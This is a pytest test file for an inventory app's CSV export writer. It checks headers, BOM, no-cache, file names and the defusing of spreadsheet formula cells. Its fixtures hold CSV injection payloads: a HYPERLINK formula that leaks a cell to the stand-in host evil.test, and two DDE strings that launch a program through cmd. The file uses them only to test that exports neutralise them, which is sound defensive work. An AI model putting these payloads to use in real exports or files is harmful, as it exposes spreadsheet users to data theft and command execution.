"""Every CSV export goes through the one writer (app/web/exports.py): BOM, one correct
Content-Type, no caching, an attachment file name, formula cells defused — staff, admin
and supplier-portal exports alike."""
from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from sqlalchemy.orm import Session

from app.web.exports import defused
from tests.factories import (
    make_price,
    make_product,
    make_staff_user,
    make_supplier,
    make_supplier_user,
    make_warehouse,
    receive_stock,
)
from tests.factories_purchasing import make_po
from tests.web.clients import login_staff, login_supplier

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"

# (route, file name) for every export a staff user reaches; the admin export needs the admin role.
STAFF_EXPORTS = [
    ("/products.csv", "products.csv"),
    ("/products/FX-1/movements.csv", "movements-FX-1.csv"),
    ("/suppliers.csv", "suppliers.csv"),
    ("/purchase-orders.csv", "purchase-orders.csv"),
    ("/receiving.csv", "receiving.csv"),
    ("/returns.csv", "supplier-returns.csv"),
    ("/transfers/export.csv", "transfers.csv"),
    ("/counts/export.csv", "counts.csv"),
    ("/alerts/export.csv?kind=low_stock", "alerts-low_stock.csv"),
    ("/admin/audit/export.csv", "audit-log.csv"),
]
PORTAL_EXPORTS = [("/portal/orders.csv", "purchase-orders.csv"), ("/portal/scorecard.csv", "scorecard.csv")]


@pytest.fixture
def world(session: Session) -> dict[str, Any]:
    """Names a hostile supplier or product editor could choose, on every kind of row exported."""
    cloud = make_warehouse(session, kind="cloud", code="CLOUD-X")
    supplier = make_supplier(session, name=HYPERLINK, code="EVIL")
    a = make_product(session, sku="FX-1", name=HYPERLINK)
    b = make_product(session, sku="FX-2", name=SUM)
    c = make_product(session, sku="FX-3", name=MINUS)
    for p in (a, b, c):
        make_price(session, supplier, p)
    receive_stock(session, a, cloud, 5)
    make_po(session, supplier, cloud, [(a, 10, "5.00", dt.date(2026, 4, 1)), (b, 4, "2.00", dt.date(2026, 4, 1))])
    return {"supplier": supplier, "admin": make_staff_user(session, "admin").email,
            "supplier_user": make_supplier_user(session, supplier).email}


def _rows(resp: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))


@pytest.mark.parametrize("route,filename,portal", [(r, f, False) for r, f in STAFF_EXPORTS]
                         + [(r, f, True) for r, f in PORTAL_EXPORTS])
def test_every_export_is_streamed_utf8_with_bom_one_content_type_and_not_cached(
        client: Any, world: dict[str, Any], route: str, filename: str, portal: bool) -> None:
    login = login_supplier(client, world["supplier_user"]) if portal else login_staff(client, world["admin"])
    assert login.status_code == 302
    resp = client.get(route)
    assert resp.status_code == 200, resp.text
    assert "Content-Length" not in resp.headers  # streamed, not built in memory first
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Cache-Control"] == "no-store"
    assert resp.headers["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert resp.data.startswith("\ufeff".encode())  # UTF-8 BOM
    assert _rows(resp)[0], "a header line"


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows[1:] for cell in row}


@pytest.mark.parametrize("route", ["/products.csv", "/suppliers.csv", "/purchase-orders.csv", "/receiving.csv"])
def test_staff_exports_defuse_formula_cells(client: Any, world: dict[str, Any], route: str) -> None:
    assert login_staff(client, world["admin"]).status_code == 302
    cells = _cells(_rows(client.get(route)))
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells
    if route == "/products.csv":
        assert {"'" + SUM, "'" + MINUS} <= cells and not {SUM, MINUS} & cells


def test_portal_order_export_defuses_hyperlink_and_sum_formulas(client: Any, world: dict[str, Any]) -> None:
    assert login_supplier(client, world["supplier_user"]).status_code == 302
    rows = list(csv.DictReader(io.StringIO(client.get("/portal/orders.csv").data.decode("utf-8-sig"))))
    assert {r["product"] for r in rows} == {"'" + HYPERLINK, "'" + SUM}
    assert {r["quantity"] for r in rows} == {"10", "4"}  # numbers stay numbers


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert defused(text) == "'" + text


@pytest.mark.parametrize("value,written", [("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (-3, -3),
                                           (2.5, 2.5)])
def test_other_cells_are_written_as_they_are(value: Any, written: Any) -> None:
    assert defused(value) == written


def test_a_file_name_that_is_not_ascii_is_sent_rfc_5987_encoded(client: Any, session: Session) -> None:
    make_product(session, sku="毛巾-1", name="竹纤维毛巾")
    assert login_staff(client, make_staff_user(session, "viewer").email).status_code == 302
    resp = client.get("/products/毛巾-1/movements.csv")
    assert resp.status_code == 200
    assert resp.headers["Content-Disposition"] == ("attachment; filename=\"movements-__-1.csv\"; "
                                                   "filename*=UTF-8''movements-%E6%AF%9B%E5%B7%BE-1.csv")
